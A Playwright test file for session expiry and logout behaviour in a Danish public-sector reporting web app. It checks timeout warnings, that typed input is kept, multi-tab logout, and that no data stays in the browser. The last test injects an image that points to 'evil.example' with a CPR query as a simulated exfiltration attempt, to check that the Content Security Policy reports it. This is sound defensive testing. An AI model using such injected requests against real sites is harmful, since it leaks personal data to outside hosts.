"""How a log-in ends in the browser: a warning in time, nothing typed is lost, nothing of the page stays."""

from collections.abc import Callable
from datetime import datetime, timedelta

import pytest
from playwright.sync_api import Page, expect

from indberet.access.logins import end_logins
from indberet.access.models import Login
from indberet.register.models import Record
from tests.people import save

from .conftest import NewWalk
from .steps import ANNE, NEW, OVERVIEW, fill_plain_case
from .walk import Walk

Later = Callable[[Page, float], None]


@pytest.fixture
def later(monkeypatch: pytest.MonkeyPatch, clock: datetime) -> Later:
    """Lets minutes pass, on the server and in the page. Minutes count from the log-in."""
    passed = {"minutes": 0.0}

    def go_on(page: Page, minutes: float) -> None:
        step = minutes - passed["minutes"]
        passed["minutes"] = minutes
        monkeypatch.setattr("django.utils.timezone.now", lambda: clock + timedelta(minutes=minutes))
        page.clock.fast_forward(int(step * 60_000))

    return go_on


@pytest.fixture
def anna(contacts: None, new_walk: NewWalk) -> Walk:
    """Anna, whose page has a clock that the test moves."""
    walk = new_walk()
    walk.page.clock.install()
    return walk


def warning(walk: Walk) -> None:
    expect(walk.page.get_by_role("heading", name="Du bliver logget ud om 2 minutter")).to_be_visible()


def test_the_warning_comes_two_minutes_before_and_one_continues(anna: Walk, later: Later):
    anna.log_in("anna", NEW)
    anna.fill("CPR-nummer", ANNE)
    later(anna.page, 27)
    expect(anna.page.locator("#session-dialog")).to_be_hidden()
    later(anna.page, 28.02)
    warning(anna)
    anna.check()
    anna.shot("advarsel-foer-timeout")
    with anna.page.expect_response("**/session/continue/"):
        anna.button("Fortsæt").click()
    expect(anna.page.locator("#session-dialog")).to_be_hidden()
    expect(anna.field("CPR-nummer")).to_have_value(ANNE)
    later(anna.page, 40)
    anna.go(OVERVIEW)
    anna.heading("Egne IDEP")


def test_at_the_end_what_was_typed_is_kept_and_the_page_is_left(anna: Walk, later: Later):
    anna.log_in("anna", NEW)
    fill_plain_case(anna)
    later(anna.page, 28.5)
    warning(anna)
    later(anna.page, 30.05)
    anna.page.wait_for_url("**/login/ended/idle/**")
    anna.heading("Du er logget ud")
    anna.sees("fordi du ikke har brugt Indberet i 30 minutter", "Det, du havde skrevet, er ikke tabt.")
    expect(anna.page.locator("body")).not_to_contain_text(ANNE)
    anna.check()
    anna.shot("logget-ud")
    anna.press("Log ind igen")
    anna.press("Log ind som Anna Andersen")
    anna.heading("Tilføj sag")
    expect(anna.field("CPR-nummer")).to_have_value(ANNE)
    anna.press("Opret")
    anna.told(f"Ydelse 1.13.4 for {ANNE} er gemt")
    assert Record.unscoped.count() == 1


def test_whoever_types_is_active(anna: Walk, later: Later):
    anna.log_in("anna", NEW)
    later(anna.page, 27.5)
    anna.page.get_by_role("textbox", name="CPR-nummer").press_sequentially("0202")
    with anna.page.expect_response("**/session/continue/"):
        later(anna.page, 28.1)
    expect(anna.page.locator("#session-dialog")).to_be_hidden()
    active = Login.objects.get().active_at - Login.objects.get().started_at
    assert active >= timedelta(minutes=28)


@pytest.mark.parametrize(
    ("path", "label", "text", "asks"),
    [(NEW, "CPR-nummer", ANNE, "**/adults/fields/"), (OVERVIEW, "Filtrér Indsatskode", "1.8.2", f"**{OVERVIEW}")],
    ids=["form", "overview"],
)
def test_a_field_that_loses_the_focus_to_the_warning_is_nobodys_activity(
    anna: Walk, later: Later, path: str, label: str, text: str, asks: str
):
    """What was typed last is asked about when somebody is back."""
    save()
    anna.log_in("anna", path)
    asked: list[str] = []
    anna.page.on("request", lambda request: asked.append(f"{request.method} {request.url}"))
    anna.page.get_by_role("textbox", name=label).press_sequentially(text)
    later(anna.page, 28.5)
    warning(anna)
    later(anna.page, 29)
    expect(anna.page.locator("#session-dialog")).to_be_visible()
    assert not [each for each in asked if each.startswith("POST")]
    login = Login.objects.get()
    assert login.active_at - login.started_at < timedelta(minutes=1)
    with anna.page.expect_response(asks):
        anna.button("Fortsæt").click()
    expect(anna.page.locator("#session-dialog")).to_be_hidden()
    expect(anna.page.get_by_role("textbox", name=label)).to_have_value(text)


def test_before_the_last_end_one_logs_in_again_and_loses_nothing(anna: Walk, later: Later):
    anna.log_in("anna", "/")
    for minutes in range(25, 476, 25):
        later(anna.page, minutes)
        anna.go(NEW)
    anna.fill("CPR-nummer", ANNE)
    later(anna.page, 475.5)
    expect(anna.page.get_by_role("heading", name="Du bliver logget ud om 5 minutter")).to_be_visible()
    expect(anna.button("Fortsæt")).to_have_count(0)
    anna.check()
    anna.shot("efter-otte-timer")
    anna.button("Arbejd videre så længe").click()
    expect(anna.page.locator("#session-dialog")).to_be_hidden()
    anna.fill("Startdato", "01022025")
    later(anna.page, 480.1)
    anna.page.wait_for_url("**/login/ended/absolute/**")
    anna.sees("logget ind i 8 timer", "Det, du havde skrevet, er ikke tabt.")
    anna.press("Log ind igen")
    anna.press("Log ind som Anna Andersen")
    expect(anna.field("CPR-nummer")).to_have_value(ANNE)
    expect(anna.field("Startdato")).to_have_value("01022025")


def test_log_in_again_is_offered_before_the_last_end(anna: Walk, later: Later):
    anna.log_in("anna", "/")
    for minutes in range(25, 476, 25):
        later(anna.page, minutes)
        anna.go(NEW)
    anna.fill("CPR-nummer", ANNE)
    later(anna.page, 476)
    with anna.page.expect_navigation(url="**/login/?**"):
        anna.button("Log ind igen").click()
    later(anna.page, 477)
    expect(anna.page.locator("#session-dialog")).to_be_hidden()
    anna.press("Log ind som Anna Andersen")
    expect(anna.field("CPR-nummer")).to_have_value(ANNE)
    assert [row.ended for row in Login.objects.order_by("pk")] == ["logout", ""]


def test_tabs_agree(anna: Walk, later: Later):
    """What one tab is told, the other is not asked again; and both leave together, each with what was typed there."""
    anna.log_in("anna", NEW)
    anna.fill("CPR-nummer", ANNE)
    other = anna.page.context.new_page()
    other.clock.install()
    other.goto(f"{anna.url}/contacts/")
    other.get_by_text("Tilføj kontaktperson").first.click()
    other.get_by_role("textbox", name="Kontaktperson").first.fill("Annelise Andersen")
    later(anna.page, 28.5)
    warning(anna)
    other.clock.fast_forward(int(28.5 * 60_000))
    expect(other.get_by_role("heading", name="Du bliver logget ud om 2 minutter")).to_be_visible()
    other.get_by_role("button", name="Fortsæt").click()
    expect(other.locator("#session-dialog")).to_be_hidden()
    expect(anna.page.locator("#session-dialog")).to_be_hidden()
    later(anna.page, 59)
    anna.page.wait_for_url("**/login/ended/idle/**")
    other.wait_for_url("**/login/ended/idle/**")
    anna.press("Log ind igen")
    anna.press("Log ind som Anna Andersen")
    expect(anna.field("CPR-nummer")).to_have_value(ANNE)
    anna.go("/contacts/")
    expect(anna.page.get_by_role("textbox", name="Kontaktperson").first).to_have_value("Annelise Andersen")


def test_a_log_out_in_another_tab_leaves_every_tab(walk: Walk):
    save()
    walk.log_in("anna", NEW)
    walk.fill("CPR-nummer", ANNE)
    other = walk.page.context.new_page()
    other.goto(f"{walk.url}{OVERVIEW}")
    with other.expect_navigation():
        other.get_by_role("button", name="Log ud").filter(visible=True).click()
    walk.page.wait_for_url("**/login/ended/logout/**")
    expect(walk.page.locator("body")).not_to_contain_text(ANNE)
    walk.press("Log ind igen")
    walk.press("Log ind som Anna Andersen")
    expect(walk.field("CPR-nummer")).to_have_value(ANNE)


def test_a_computer_that_slept_shows_nothing_when_it_wakes(
    walk: Walk, clock: datetime, monkeypatch: pytest.MonkeyPatch
):
    """The page's own timers have not run; it asks when it is looked at again."""
    walk.log_in("anna", NEW)
    walk.fill("CPR-nummer", ANNE)
    monkeypatch.setattr("django.utils.timezone.now", lambda: clock + timedelta(minutes=45))
    walk.page.evaluate("() => document.dispatchEvent(new Event('visibilitychange'))")
    walk.page.wait_for_url("**/login/ended/idle/**")
    walk.press("Log ind igen")
    walk.press("Log ind som Anna Andersen")
    expect(walk.field("CPR-nummer")).to_have_value(ANNE)


def test_somebody_else_at_the_same_computer_sees_nothing_of_what_was_open(walk: Walk):
    save()
    walk.log_in("anna", NEW)
    walk.fill("CPR-nummer", ANNE)
    other = walk.page.context.new_page()
    other.goto(f"{walk.url}/login/")
    with other.expect_navigation():
        other.get_by_role("button", name="Log ind som Birthe Bruun").click()
    walk.page.wait_for_url("**/login/ended/logout/**")
    expect(walk.page.locator("body")).not_to_contain_text(ANNE)
    walk.go("/children/own/")
    expect(walk.page.get_by_role("banner")).to_contain_text("Birthe Bruun")
    walk.go("/login/")
    walk.press("Log ind som Anna Andersen")
    walk.go(NEW)
    expect(walk.field("CPR-nummer")).to_have_value(ANNE)


def test_support_ends_a_log_in_and_the_tab_notices(anna: Walk, new_walk: NewWalk, later: Later):
    anna.log_in("anna", NEW)
    anna.fill("CPR-nummer", ANNE)
    stine = new_walk()
    stine.log_in("stine")
    stine.press("Hvem er logget ind")
    stine.heading("Hvem er logget ind")
    stine.check()
    stine.shot("hvem-er-logget-ind")
    stine.press("Afslut Anna Andersen")
    stine.heading("Afslut logins: Anna Andersen?")
    stine.check()
    stine.press("Afslut", within=stine.page.get_by_role("dialog"))
    stine.told("1 login er afsluttet: Anna Andersen.")
    later(anna.page, 28.5)
    anna.page.wait_for_url("**/login/ended/support/**")
    anna.sees("Danmarks Statistik har afsluttet din adgang")
    anna.check()
    anna.press("Log ind igen")
    anna.press("Log ind som Anna Andersen")
    expect(anna.field("CPR-nummer")).to_have_value(ANNE)


@pytest.mark.parametrize("scripts", [True, False])
def test_a_click_after_the_end_says_why_and_comes_back_filled_in(contacts: None, new_walk: NewWalk, scripts: bool):
    walk = new_walk(scripts=scripts)
    walk.log_in("anna", NEW)
    walk.fill("CPR-nummer", ANNE)
    walk.fill("Startdato", "01022025")
    end_logins("slo", everyone=True)
    walk.press("Opret")
    walk.heading("Du er logget ud")
    walk.sees("logget ud af MitID Erhverv")
    walk.press("Log ind igen")
    walk.press("Log ind som Anna Andersen")
    expect(walk.field("CPR-nummer")).to_have_value(ANNE)


def test_without_a_connection_the_page_is_hidden_and_nothing_is_lost(anna: Walk, later: Later):
    anna.log_in("anna", NEW)
    anna.fill("CPR-nummer", ANNE)
    anna.page.route("**/session/state/", lambda route: route.abort())
    later(anna.page, 28.5)
    later(anna.page, 30.5)
    expect(anna.page.get_by_role("heading", name="Der er ingen forbindelse til Indberet")).to_be_visible()
    expect(anna.page.locator("main")).to_be_hidden()
    anna.shot("ingen-forbindelse")
    anna.page.unroute_all()
    anna.button("Prøv igen").click()
    anna.page.wait_for_url("**/login/ended/idle/**")
    anna.press("Log ind igen")
    anna.press("Log ind som Anna Andersen")
    expect(anna.field("CPR-nummer")).to_have_value(ANNE)


def test_back_after_log_out_shows_nothing(walk: Walk):
    save()
    walk.log_in("anna", OVERVIEW)
    walk.sees(ANNE)
    walk.press("Log ud")
    walk.heading("Log ind")
    walk.page.go_back()
    expect(walk.page.get_by_role("heading", level=1, name="Log ind")).to_be_visible()
    expect(walk.page.locator("body")).not_to_contain_text(ANNE)


KEPT = """async () => [
  Object.keys(localStorage), Object.keys(sessionStorage), (await indexedDB.databases()).map((found) => found.name),
  await caches.keys(),
].flat()"""


def test_a_tour_leaves_nothing_in_the_browser(walk: Walk):
    record = save()
    walk.log_in("anna", OVERVIEW)
    walk.filter("Indsatskode", "1.8.2")
    for path in (NEW, f"/adults/records/{record.pk}/", "/adults/report/", "/contacts/", "/adults/rules/", "/help/"):
        walk.go(path)
        assert walk.page.evaluate(KEPT) == [], path
    walk.press("Log ud")
    assert walk.page.evaluate(KEPT) == []


def test_what_the_policy_forbids_is_reported(walk: Walk, caplog: pytest.LogCaptureFixture):
    walk.go("/help/")
    with walk.page.expect_request("**/csp-report/") as sent:
        walk.page.evaluate(
            "() => document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/x?cpr=1'}))"
        )
    assert sent.value.method == "POST"
    walk.until(lambda: "csp_violation" in caplog.text, "the report is logged")
    assert "evil.example" in caplog.text
    assert "cpr=" not in caplog.text
    walk.watch.problems.clear()  # the browser complains, which is what was wanted
